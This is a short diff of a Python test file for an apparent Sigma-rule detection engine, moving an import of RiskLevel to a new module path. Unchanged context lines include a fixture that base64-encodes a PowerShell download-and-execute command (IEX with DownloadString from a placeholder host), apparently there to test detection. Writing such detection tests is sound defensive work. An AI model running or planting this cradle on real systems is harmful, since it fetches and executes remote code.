@@ -12,9 +12,9 @@ import yaml
 
 from secustream.analyzer.sigma import SigmaEngine, SigmaRuleSet
 from secustream.analyzer.sigma.loader import build_ruleset
-from secustream.analyzer.verdict import RiskLevel
 from secustream.events import SecurityEvent
 from secustream.state import MemoryState
+from secustream.verdict import RiskLevel
 
 WIN_PROC = {"product": "windows", "category": "process_creation"}
 PS_B64 = base64.b64encode("IEX (New-Object Net.WebClient).DownloadString('http://x/a')".encode("utf-16le")).decode()
